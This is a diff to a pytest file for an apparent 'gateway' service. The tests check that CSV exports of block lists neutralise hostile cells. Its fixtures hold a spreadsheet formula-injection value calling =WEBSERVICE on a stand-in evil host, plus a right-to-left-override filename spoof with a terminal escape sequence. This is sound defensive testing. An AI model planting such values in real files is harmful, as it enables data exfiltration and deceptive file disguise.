@@ -15,6 +15,7 @@ import pytest
 from flask import Flask
 from flask.testing import FlaskClient
 
+from gateway import untrusted
 from gateway.cli import main
 from gateway.config import Settings
 from gateway.feeds.subscriptions import add_subscription, refresh
@@ -41,7 +42,8 @@ def seed(service: Services, tmp_path: Path) -> None:
     report = store.list_files.import_csv(io.StringIO("\n".join(lines) + "\n"), "block")
     assert report.added == len(HOSTILE), report.rejected
     feed = tmp_path / "feed.csv"
-    feed.write_text("0162000001,=WEBSERVICE(\"http://evil.example\")\n", encoding="utf-8")
+    feed.write_text("0162000001,=WEBSERVICE(\"http://evil.example\")\n"
+                    "0162000002,\u202etxt.exe\x1b[2J\n", encoding="utf-8")
     sub = add_subscription(service.db, "block", str(feed))
     assert refresh(service.db, service.settings, sub.id).ok
 
@@ -52,6 +54,7 @@ def check_cells(text: str) -> list[list[str]]:
     for row in rows[1:]:
         for cell in row:
             assert cell[:1] not in FORMULA_START, (row, cell)
+            assert not {"\u202e", "\x1b", "\x00"} & set(cell), (row, cell)
     return rows
 
 
@@ -62,7 +65,7 @@ def assert_reimports_the_same(service: Services, text: str) -> None:
         store.entries.remove(entry.id)
     store.list_files.import_csv(io.StringIO(text, newline=""), "block")
     after = sorted((e.kind.value, e.pattern, e.label) for e in store.entries.find("block"))
-    assert after == before
+    assert after == [(k, p, untrusted.strip_controls(label)) for k, p, label in before]
     labels = {label for _, _, label in after}
     assert {h.strip() for h in HOSTILE} <= labels | {h for h in HOSTILE}
 
@@ -72,7 +75,7 @@ def test_the_ui_export_is_inert_and_reimports(client: FlaskClient, service: Serv
     seed(service, tmp_path)
     text = client.get("/transfer/export/block.csv").get_data(as_text=True)
     rows = check_cells(text)
-    assert len(rows) == len(HOSTILE) + 2
+    assert len(rows) == len(HOSTILE) + 3
     assert_reimports_the_same(service, text)
 
 
